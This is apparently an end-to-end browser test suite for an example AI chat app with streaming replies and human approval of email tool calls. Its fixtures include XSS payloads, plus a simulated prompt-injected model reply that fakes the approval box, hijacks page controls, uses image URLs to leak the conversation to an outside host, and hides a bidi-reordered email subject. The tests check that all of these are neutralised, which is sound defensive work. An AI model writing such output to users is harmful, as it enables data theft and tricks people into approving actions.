import type { ChildProcess } from 'node:child_process';
import { mkdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoStory } from '../../examples/web-chat/demo-story.ts';
import { openaiFrames } from '../agent/openai-sse.ts';
import { startExampleServer } from '../support/start-example-server.ts';
import { startTranscriptServer, type TranscriptServer } from '../support/transcript-server.ts';
import { startTcpProxy, type TcpProxy } from './support/tcp-proxy.ts';
import { chromiumPath } from '../support/chromium-path.ts';

const output = fileURLToPath(new URL('../../.test-output/', import.meta.url));
const browserPath = chromiumPath();
const reply = 'Done: the email is on its way.';
const pieces = (text: string) => text.match(/.{1,6}/gs) ?? [];
const markdownReply = [
  'Here is **an example**:',
  '',
  '```js',
  'const x = 1;',
  'console.log(x);',
  '```',
  '',
  '- first item',
  '- second item',
  '',
  '| a | b |',
  '|---|---|',
  '| 1 | 2 |',
  '',
  'A picture: <img src="x" onerror="window.__xss = 1"> <script>window.__xss = 2</script> Done.',
].join('\n');
const wideTable = [
  `| ${Array.from({ length: 12 }, (_, i) => `column${i}`).join(' | ')} |`,
  `|${'---|'.repeat(12)}`,
  `| ${Array.from({ length: 12 }, (_, i) => `value${i}`).join(' | ')} |`,
].join('\n');
/** An honest answer that names HTML tags without backticks (as models often do). */
const aboutTags =
  'The <script> tag runs code; <style> holds CSS, and <textarea> a box.\n\nThis paragraph stays.';
/** What a hostile (or prompt-injected) model may write: HTML that reuses the page's own ids and
 * classes, overlays the page, loads remote images, and pre-empts its own tool call's approval box. */
const hostileReply = [
  'Hello <span id="status">idle</span> <button id="stop" disabled>Stop</button> <input id="prompt">',
  '<div style="position:fixed;inset:0;background:red" class="approval" data-call="call_h">Approved.</div>',
  '![chart](http://127.0.0.2:9/leak?q=secret) <img src="http://127.0.0.2:9/leak2">',
  '<form action="http://127.0.0.2:9/"><button>Go</button></form> [docs](https://example.com/docs)',
];

/** A fake OpenAI server: asked to email someone it calls send_email; else it streams the story. */
function fakeOpenAI(): Promise<TranscriptServer> {
  return startTranscriptServer((request) => {
    const { messages } = request.json as { messages: { role: string; content: unknown }[] };
    const last = messages.at(-1);
    if (last?.role === 'tool') return { chunks: openaiFrames({ text: pieces(reply) }), delayMs: 20 };
    if (typeof last?.content === 'string' && /hostile/.test(last.content))
      return {
        chunks: openaiFrames({
          text: hostileReply,
          toolCalls: [
            { id: 'call_h', name: 'send_email', arguments: '{"to":"Dan","subject":"Hi \\u202emoc.live"}' },
          ],
        }),
      };
    const to = typeof last?.content === 'string' ? /email (\S+)/i.exec(last.content)?.[1] : undefined;
    if (to) {
      return {
        chunks: openaiFrames({
          text: ['Let me send that.'],
          toolCalls: [
            { id: 'call_1', name: 'send_email', arguments: JSON.stringify({ to, subject: 'Hello' }) },
          ],
        }),
        // A slow first turn for the tests that act while the approval is shown.
        delayMs: /slowly/.test(String(last?.content)) ? 300 : 0,
      };
    }
    // The model's stream breaks off mid-reply, every time (the agent tries again, then fails).
    if (typeof last?.content === 'string' && /breaks off/.test(last.content))
      return {
        chunks: openaiFrames({ text: ['The start ', 'of a reply ', 'that ', 'never ends'] }).slice(0, 3),
        cut: true,
      };
    if (typeof last?.content === 'string' && /two emails/.test(last.content))
      return {
        chunks: openaiFrames({
          text: ['Sending both.'],
          toolCalls: [
            { id: 'call_b', name: 'send_email', arguments: '{"to":"Bob","subject":"Hi"}' },
            { id: 'call_e', name: 'send_email', arguments: '{"to":"eve@evil.example","subject":"Hi"}' },
          ],
        }),
      };
    if (typeof last?.content === 'string' && /about tags/.test(last.content))
      return { chunks: openaiFrames({ text: pieces(aboutTags) }) };
    if (typeof last?.content === 'string' && /wide table/.test(last.content))
      return { chunks: openaiFrames({ text: [wideTable] }) };
    if (typeof last?.content === 'string' && /markdown/i.test(last.content))
      return { chunks: openaiFrames({ text: pieces(markdownReply) }), delayMs: 5 };
    // The stories that are stopped or cut mid-way stream slowly (about 5 s), so that on a loaded
    // machine the Stop click or the dropped connection still lands before the story ends.
    const slow = typeof last?.content === 'string' && /another|one more/i.test(last.content);
    return { chunks: openaiFrames({ text: pieces(demoStory) }), delayMs: slow ? 120 : 40 };
  });
}

/** Starts `npm run web` as a child process against the fake server; resolves with its URL. */
function startWebChat(openaiUrl: string): Promise<{ child: ChildProcess; url: string }> {
  const env = { ...process.env, PORT: '0', OPENAI_API_KEY: 'sk-test', OPENAI_BASE_URL: `${openaiUrl}/v1` };
  return startExampleServer('examples/web-chat/server.ts', env);
}

/** The text of the last reply: its steps' blocks, in order, each trimmed, joined by a space. */
const lastText = async (page: Page) =>
  (await page.locator('.assistant').last().locator('.text').allTextContents()).map((t) => t.trim()).join(' ');

async function send(page: Page, message: string) {
  await page.fill('#prompt', message);
  await page.press('#prompt', 'Enter');
  await page.locator('.user', { hasText: message }).waitFor();
}

describe.skipIf(browserPath === undefined)('examples/web-chat in Chromium', () => {
  let openai: TranscriptServer;
  let chat: { child: ChildProcess; url: string };
  let proxy: TcpProxy;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    openai = await fakeOpenAI();
    chat = await startWebChat(openai.url);
    proxy = await startTcpProxy(chat.url);
    browser = await chromium.launch({
      executablePath: browserPath ?? 'chromium',
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
    page = await browser.newPage({ viewport: { width: 900, height: 700 } });
    await page.goto(proxy.url);
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await proxy?.close();
    chat?.child.kill('SIGTERM');
    await openai?.close();
  });

  it('answers an unknown run with 404 and a RunNotFoundError body (what fromSSE reads back)', async () => {
    const answer = await fetch(`${chat.url}/api/runs/no-such-run`);
    expect(answer.status).toBe(404);
    expect(await answer.json()).toEqual({
      error: expect.objectContaining({ name: 'RunNotFoundError', runId: 'no-such-run' }),
    });
  });

  it('streams the reply: the text grows token by token, then the run is done', async () => {
    await send(page, 'Tell me a story');
    await page.waitForFunction(
      () => (document.querySelector('.assistant .text')?.textContent ?? '').length > 0,
    );
    const early = await lastText(page);
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
      timeout: 40_000,
    });
    const final = await lastText(page);
    expect(early.length).toBeGreaterThan(0);
    expect(early.length).toBeLessThan(final.length);
    expect(final).toBe(demoStory);
  }, 90_000);

  it('asks for approval, runs the tool once approved and shows its result', async () => {
    await send(page, 'Please email Bob');
    await page.locator('button.approve').waitFor({ timeout: 15_000 });
    await expect(page.locator('.tool').last().textContent()).resolves.toContain(
      'send_email({"to":"Bob","subject":"Hello"})',
    );
    // The status says the run waits for the person, not that it streams.
    expect(await page.textContent('#status')).toBe('waiting for your approval');
    await page.click('button.approve');
    await page.locator('.tool', { hasText: '"sent":true' }).waitFor({ timeout: 15_000 });
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
      timeout: 15_000,
    });
    expect(await lastText(page)).toBe(`Let me send that. ${reply}`);
  }, 90_000);

  it('Stop ends the stream and aborts the model request on the server', async () => {
    const aborted = openai.nextClientAbort();
    const before = openai.clientAborts;
    await send(page, 'Tell me another story');
    await page.waitForFunction(() => {
      // The reply to the message just sent: the newest bubble, not an earlier reply.
      const last = document.querySelector('#messages')?.lastElementChild;
      if (!last?.classList.contains('assistant')) return false;
      return (last.querySelector('.text')?.textContent ?? '').length > 20;
    });
    await page.click('#stop');
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'stopped', null, {
      timeout: 15_000,
    });
    await aborted;
    expect(openai.clientAborts).toBe(before + 1);
    const stopped = await lastText(page);
    expect(stopped.length).toBeLessThan(demoStory.length);
    expect(demoStory.startsWith(stopped)).toBe(true);
  }, 90_000);

  it('survives a dropped connection: reconnects, resumes, and the text completes exactly once', async () => {
    await send(page, 'One more story');
    await page.waitForFunction(() => {
      // The reply to the message just sent: the newest bubble, not an earlier reply.
      const last = document.querySelector('#messages')?.lastElementChild;
      if (!last?.classList.contains('assistant')) return false;
      return (last.querySelector('.text')?.textContent ?? '').length > 30;
    });
    const connections = proxy.connections;
    proxy.drop();
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
      timeout: 40_000,
    });
    expect(proxy.connections).toBeGreaterThan(connections);
    expect(await lastText(page)).toBe(demoStory);
  }, 90_000);

  it('renders markdown (code blocks, lists, tables) and strips what could run script', async () => {
    await send(page, 'Some markdown please');
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
      timeout: 30_000,
    });
    const bubble = page.locator('.assistant').last();
    await bubble.locator('table').waitFor();
    expect(await bubble.locator('pre code').textContent()).toBe('const x = 1;\nconsole.log(x);\n');
    expect(await bubble.locator('li').allTextContents()).toEqual(['first item', 'second item']);
    expect(await bubble.locator('td').allTextContents()).toEqual(['1', '2']);
    expect(await bubble.locator('strong').textContent()).toBe('an example');
    expect(await bubble.locator('script').count()).toBe(0);
    expect(await bubble.locator('[onerror]').count()).toBe(0);
    expect(await page.evaluate(() => Reflect.get(window, '__xss'))).toBeUndefined();
    mkdirSync(output, { recursive: true });
    await page.screenshot({ path: `${output}web-chat.png`, fullPage: true });
  }, 60_000);

  it('says in each approval box which call it decides: two emails, one approved, one rejected', async () => {
    await send(page, 'Send two emails');
    const bubble = page.locator('.assistant').last();
    await bubble.locator('.approval button.approve:not([disabled])').nth(1).waitFor({ timeout: 15_000 });
    const boxes = bubble.locator('.approval');
    expect(await boxes.count()).toBe(2);
    await boxes.filter({ hasText: '"to":"Bob"' }).locator('button.approve').click();
    await boxes.filter({ hasText: '"to":"eve@evil.example"' }).locator('button.reject').click();
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
      timeout: 15_000,
    });
    const tools = await bubble.locator('.tool').allTextContents();
    expect(tools.find((line) => line.includes('Bob'))).toContain('"sent":true');
    expect(tools.find((line) => line.includes('eve@'))).not.toContain('"sent":true');
  }, 60_000);

  it('shows the HTML a model writes as text: a reply naming <script> or <style> keeps every word', async () => {
    await send(page, 'Tell me about tags');
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
      timeout: 30_000,
    });
    const bubble = page.locator('.assistant').last();
    await bubble.locator('p', { hasText: 'This paragraph stays.' }).waitFor({ timeout: 5_000 });
    expect((await bubble.innerText()).trim()).toBe(aboutTags);
    expect(await bubble.locator('script, style, textarea').count()).toBe(0);
  }, 60_000);

  it("keeps each step's text where it belongs: the answer after the tool call it follows", async () => {
    await send(page, 'Please email Carol');
    await page.locator('button.reject:not([disabled])').waitFor({ timeout: 15_000 });
    await page.click('button.reject:not([disabled])');
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
      timeout: 15_000,
    });
    const order = await page
      .locator('.assistant')
      .last()
      .evaluate((bubble) =>
        [...bubble.children].map((child) => `${child.className}:${child.textContent?.trim().slice(0, 16)}`),
      );
    expect(order).toEqual([
      'text:Let me send that',
      expect.stringMatching(/^tool:tool: send_email/),
      'text:Done: the email ',
    ]);
  }, 60_000);

  it('follows the reply as it grows: the newest text, the composer and Stop stay on screen', async () => {
    // By now the conversation is much taller than the 700 px window.
    await send(page, 'Yet another story, please');
    await page.waitForFunction(() => {
      // The reply to the message just sent: the newest bubble, not an earlier reply.
      const last = document.querySelector('#messages')?.lastElementChild;
      if (!last?.classList.contains('assistant')) return false;
      return (last.querySelector('.text')?.textContent ?? '').length > 120;
    });
    const layout = await page.evaluate(() => {
      const bottom = (selector: string) => document.querySelector(selector)!.getBoundingClientRect().bottom;
      return {
        tall: document.documentElement.scrollHeight > window.innerHeight * 1.5,
        innerHeight: window.innerHeight,
        stop: bottom('#stop'),
        prompt: bottom('#prompt'),
        reply: bottom('.assistant:last-child'),
        stopEnabled: !(document.querySelector('#stop') as HTMLButtonElement).disabled,
      };
    });
    expect(layout.tall).toBe(true);
    expect(layout.stopEnabled).toBe(true);
    expect(layout.stop).toBeLessThanOrEqual(layout.innerHeight);
    expect(layout.prompt).toBeLessThanOrEqual(layout.innerHeight);
    expect(layout.reply).toBeLessThanOrEqual(layout.innerHeight);
    expect(layout.reply).toBeGreaterThan(0);
    await page.click('#stop');
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'stopped');
  }, 60_000);

  it('after Stop, a pending approval can no longer be clicked', async () => {
    await send(page, 'Please email Dave');
    await page.locator('button.approve:not([disabled])').waitFor({ timeout: 15_000 });
    await page.click('#stop');
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'stopped');
    const box = page.locator('.approval').last();
    expect(
      await box
        .locator('button')
        .evaluateAll((buttons) => buttons.map((b) => (b as HTMLButtonElement).disabled)),
    ).toEqual([true, true]);
    expect(await box.textContent()).toContain('no longer pending');
  }, 60_000);

  it('says so when the server refused the approval (409): the run ended elsewhere', async () => {
    await send(page, 'Please email Erin');
    await page.locator('button.approve:not([disabled])').waitFor({ timeout: 15_000 });
    const runId = await page.locator('.assistant').last().getAttribute('data-run');
    // The page stops hearing from the server (a stalled link) while another tab stops the run.
    proxy.freeze();
    // Another tab of the same browser: the same person (its cookie).
    const cookie = (await page.context().cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
    const cancelled = await fetch(`${chat.url}/api/runs/${runId}/cancel`, {
      method: 'POST',
      headers: { cookie },
    });
    expect(await cancelled.json()).toEqual({ cancelled: true });
    // The stalled connections are cut; the click goes out before EventSource reconnects (retry: 500).
    proxy.drop();
    await page.click('button.approve:not([disabled])');
    await page.locator('.approval', { hasText: 'no longer pending: nothing was done' }).waitFor();
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'stopped', null, {
      timeout: 15_000,
    });
  }, 60_000);

  it('shows a start the server refused, and gives the message back', async () => {
    const big = 'x'.repeat(600_000);
    await page.evaluate(
      (text) => ((document.querySelector('#prompt') as HTMLInputElement).value = text),
      big,
    );
    await page.press('#prompt', 'Enter');
    await page.locator('.error', { hasText: 'Not sent: A message holds at most' }).waitFor();
    expect(await page.locator('#status').textContent()).toBe('failed');
    expect((await page.inputValue('#prompt')).length).toBe(big.length);
    expect(await page.locator('.user', { hasText: 'xxxxxxxxxx' }).count()).toBe(0);
    await page.fill('#prompt', '');
  }, 60_000);

  it('shows a server it cannot reach, and gives the message back', async () => {
    const cut = await startTcpProxy(chat.url);
    const other = await browser.newPage({ viewport: { width: 900, height: 700 } });
    const errors: string[] = [];
    other.on('pageerror', (error) => errors.push(error.message));
    try {
      await other.goto(cut.url);
      await cut.close();
      await other.fill('#prompt', 'Hello?');
      await other.press('#prompt', 'Enter');
      await other.locator('.error', { hasText: 'cannot be reached' }).waitFor();
      expect(await other.locator('#status').textContent()).toBe('failed');
      expect(await other.inputValue('#prompt')).toBe('Hello?');
      expect(errors).toEqual([]);
    } finally {
      await other.close();
    }
  }, 60_000);

  it('decodes a request body whole: multi-byte characters split across chunks reach the model intact', async () => {
    const message = `${'é'.repeat(150_000)} markdown`;
    const answer = await fetch(`${chat.url}/api/chat`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ message, sessionId: 'multibyte' }),
    });
    expect(answer.status).toBe(201);
    // The run starts at once; its model request follows a moment later (longer on a loaded machine).
    const seen = () =>
      openai.requests.map((r) => (r.json as { messages: { content: unknown }[] }).messages.at(-1)?.content);
    await expect.poll(() => seen().includes(message), { timeout: 10_000 }).toBe(true);
  }, 60_000);

  it('sends a multi-line message as written: a pasted block keeps its lines, Shift+Enter adds one', async () => {
    await page.fill('#prompt', 'line one\n  line two');
    await page.press('#prompt', 'Shift+Enter');
    await page.keyboard.type('line three');
    await page.press('#prompt', 'Enter');
    await page.locator('.user', { hasText: 'line three' }).waitFor();
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
      timeout: 30_000,
    });
    const sent = (openai.requests.at(-1)!.json as { messages: { content: unknown }[] }).messages.at(-1);
    expect(sent?.content).toBe('line one\n  line two\nline three');
    expect(await page.locator('.user').last().textContent()).toBe('line one\n  line two\nline three');
  }, 60_000);

  it('shows that Send waits while a reply streams', async () => {
    await send(page, 'one more story, please');
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'streaming');
    expect(await page.isDisabled('#send')).toBe(true);
    await page.click('#stop');
    await page.waitForFunction(() => document.querySelector('#status')?.textContent === 'stopped');
    expect(await page.isDisabled('#send')).toBe(false);
  }, 60_000);

  it('keeps the conversation through a reload (or a phone discarding the tab), a reply in progress too', async () => {
    const tab = await browser.newPage({ viewport: { width: 900, height: 700 } });
    try {
      await tab.goto(proxy.url);
      await send(tab, 'Tell me a story');
      await tab.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
        timeout: 30_000,
      });
      await send(tab, 'Please email Frank');
      await tab.locator('button.approve').waitFor({ timeout: 15_000 });
      await tab.reload();
      // The finished exchange is back, and the run that waits for approval is watched again.
      await tab.locator('button.approve').waitFor({ timeout: 15_000 });
      expect(await tab.locator('.user').allTextContents()).toEqual(['Tell me a story', 'Please email Frank']);
      await tab.locator('.assistant .text', { hasText: 'The end.' }).waitFor();
      expect((await tab.locator('.assistant').first().textContent())?.trim()).toBe(demoStory);
      expect(await tab.textContent('#status')).toBe('waiting for your approval');
      await tab.click('button.approve');
      await tab.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
        timeout: 15_000,
      });
      await tab.reload();
      await tab.locator('.tool', { hasText: '"sent":true' }).waitFor({ timeout: 15_000 });
      // Text is drawn at the next animation frame.
      await tab.locator('.assistant').last().locator('.text', { hasText: reply }).waitFor();
      const shown = await tab
        .locator('#messages > *')
        .evaluateAll((items) =>
          items.map((item) => `${item.className}:${item.textContent?.trim().slice(0, 16)}`),
        );
      expect(shown).toEqual([
        'user:Tell me a story',
        `assistant:${demoStory.slice(0, 16)}`,
        'user:Please email Fra',
        'assistant:Let me send that',
      ]);
      const steps = await tab
        .locator('.assistant')
        .last()
        .evaluate((bubble) =>
          [...bubble.children].map((child) => `${child.className}:${child.textContent?.trim()}`),
        );
      expect(steps).toEqual([
        'text:Let me send that.',
        expect.stringMatching(/^tool:tool: send_email\(\{"to":"Frank","subject":"Hello"\}\) → \{"sent":true/),
        `text:${reply}`,
      ]);
      expect(await tab.textContent('#status')).toBe('idle');
    } finally {
      await tab.close();
    }
  }, 90_000);

  it('brings the conversation back through a flaky network after a reload, and says so when it cannot', async () => {
    const tab = await browser.newPage({ viewport: { width: 900, height: 700 } });
    try {
      await tab.goto(proxy.url);
      await send(tab, 'Tell me a story');
      await tab.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
        timeout: 30_000,
      });
      // The first two tries to load the conversation fail as a dropped connection would.
      let failures = 2;
      await tab.route('**/api/sessions/**', (route) =>
        failures-- > 0 ? route.abort('connectionreset') : route.continue(),
      );
      await tab.reload();
      await tab.locator('.user', { hasText: 'Tell me a story' }).waitFor({ timeout: 15_000 });
      await tab.locator('.assistant .text', { hasText: 'The end.' }).waitFor();
      // A message sent while the conversation is still loading waits: it goes after it, not before.
      let release = () => {};
      const held = new Promise<void>((resolve) => (release = resolve));
      await tab.unroute('**/api/sessions/**');
      await tab.route('**/api/sessions/**', async (route) => {
        await held;
        await route.continue();
      });
      await tab.reload();
      await tab.fill('#prompt', 'Tell me another one');
      await tab.press('#prompt', 'Enter');
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(await tab.inputValue('#prompt')).toBe('Tell me another one');
      release();
      await tab.locator('.assistant .text', { hasText: 'The end.' }).waitFor({ timeout: 15_000 });
      await tab.press('#prompt', 'Enter');
      await tab.locator('.user', { hasText: 'Tell me another one' }).waitFor();
      expect(await tab.locator('.user').allTextContents()).toEqual([
        'Tell me a story',
        'Tell me another one',
      ]);
      await tab.click('#stop');
      await tab.waitForFunction(() => document.querySelector('#status')?.textContent === 'stopped', null, {
        timeout: 15_000,
      });
      // When the server stays out of reach, the page says the conversation is not shown.
      await tab.unroute('**/api/sessions/**');
      await tab.route('**/api/sessions/**', (route) => route.abort('connectionrefused'));
      await tab.reload();
      await tab.locator('.error', { hasText: 'could not be loaded' }).waitFor({ timeout: 30_000 });
    } finally {
      await tab.close();
    }
  }, 90_000);

  it('shows a reply that failed mid-way: the failure is said, and the chat goes on', async () => {
    await send(page, 'A reply that breaks off');
    await page.locator('.error', { hasText: 'The run failed' }).waitFor({ timeout: 30_000 });
    expect(await page.textContent('#status')).toBe('failed');
    expect(await page.isDisabled('#send')).toBe(false);
    expect(await page.isDisabled('#stop')).toBe(true);
  }, 60_000);

  describe('a hostile model writing HTML', () => {
    let hostile: Page;
    const away: string[] = [];
    beforeAll(async () => {
      hostile = await browser.newPage({ viewport: { width: 900, height: 700 } });
      hostile.on('request', (request) => {
        if (!request.url().startsWith(proxy.url)) away.push(request.url());
      });
      await hostile.goto(proxy.url);
      await hostile.fill('footer #prompt', 'a hostile reply');
      await hostile.press('footer #prompt', 'Enter');
      await hostile.locator('.assistant .text', { hasText: 'Hello' }).waitFor();
    }, 60_000);
    afterAll(() => hostile?.close());

    it("cannot take over the page's controls or fake its approval box", async () => {
      // The real approval box of call_h appears, although the model wrote a fake one first.
      await hostile.locator('.approval button.reject').click({ timeout: 15_000 });
      await hostile.waitForFunction(
        () => document.querySelector('footer div')?.textContent === 'done',
        null,
        {
          timeout: 15_000,
        },
      );
      expect(await hostile.locator('footer button', { hasText: 'Stop' }).isDisabled()).toBe(true);
      const text = hostile.locator('.assistant .text');
      expect(await text.locator('[id], [style], [class], [data-call], button, input, form').count()).toBe(0);
      // The composer still sends.
      await hostile.fill('footer #prompt', 'one more story');
      await hostile.press('footer #prompt', 'Enter');
      await hostile.locator('.user', { hasText: 'one more story' }).waitFor({ timeout: 5_000 });
      await hostile.click('footer button:has-text("Stop")');
      await hostile.waitForFunction(
        () => document.querySelector('footer div')?.textContent === 'stopped',
        null,
        { timeout: 15_000 },
      );
    }, 60_000);

    it('cannot make the page load anything from elsewhere (an image URL can carry the conversation out)', async () => {
      const text = hostile.locator('.assistant .text').first();
      await text.locator('a', { hasText: 'chart' }).waitFor();
      expect(await text.locator('img').count()).toBe(0);
      expect(away).toEqual([]);
    }, 60_000);

    it('shows the arguments to approve as they are: no bidi control reorders them on screen', async () => {
      const shown = await hostile.locator('.assistant .tool').first().textContent();
      expect(shown).toContain('"subject":"Hi \\u202emoc.live"');
      expect(shown).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    }, 60_000);

    it("opens the model's links in a new tab, without a handle on the chat", async () => {
      const link = hostile.locator('.assistant .text a', { hasText: 'docs' });
      expect(await link.getAttribute('href')).toBe('https://example.com/docs');
      expect(await link.getAttribute('target')).toBe('_blank');
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    }, 60_000);
  });

  it('works at phone width: the arguments to approve wrap, nothing overflows, Approve and Stop are in reach', async () => {
    const phone = await browser.newContext({
      viewport: { width: 320, height: 568 },
      deviceScaleFactor: 2,
      isMobile: true,
      hasTouch: true,
    });
    const small = await phone.newPage();
    try {
      await small.goto(proxy.url);
      await send(
        small,
        'Please email Bartholomew-Alexander-Featherstonehaugh-Cholmondeley-Montgomery-Smythe slowly',
      );
      await small.locator('button.approve').waitFor({ timeout: 15_000 });
      const fit = await small.evaluate(() => {
        const tool = document.querySelector('.tool')!;
        const inView = (selector: string) => {
          const box = document.querySelector(selector)!.getBoundingClientRect();
          return (
            box.left >= 0 &&
            box.right <= window.innerWidth &&
            box.top >= 0 &&
            box.bottom <= window.innerHeight
          );
        };
        return {
          overflow: document.documentElement.scrollWidth - window.innerWidth,
          toolOverflow: tool.scrollWidth - tool.clientWidth,
          approve: inView('button.approve'),
          stop: inView('#stop'),
        };
      });
      expect(fit).toEqual({ overflow: 0, toolOverflow: 0, approve: true, stop: true });
      mkdirSync(output, { recursive: true });
      await small.screenshot({ path: `${output}web-chat-phone.png` });
      await small.click('button.approve');
      await small.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
        timeout: 15_000,
      });

      // A table wider than the phone scrolls sideways; its words are not broken letter by letter.
      await send(small, 'a wide table please');
      await small.waitForFunction(() => document.querySelector('#status')?.textContent === 'done', null, {
        timeout: 15_000,
      });
      // The text is drawn at the next animation frame, which may come after the status says done.
      await small.locator('.assistant:last-child th').first().waitFor();
      const table = await small.evaluate(() => {
        const cell = document.querySelector('.assistant:last-child th')!;
        const box = document.querySelector('.assistant:last-child table')!;
        return {
          overflow: document.documentElement.scrollWidth - window.innerWidth,
          oneLine: cell.getBoundingClientRect().height < 2 * parseFloat(getComputedStyle(cell).lineHeight),
          scrolls: box.scrollWidth > box.clientWidth,
        };
      });
      expect(table).toEqual({ overflow: 0, oneLine: true, scrolls: true });
    } finally {
      await phone.close();
    }
  }, 60_000);
});
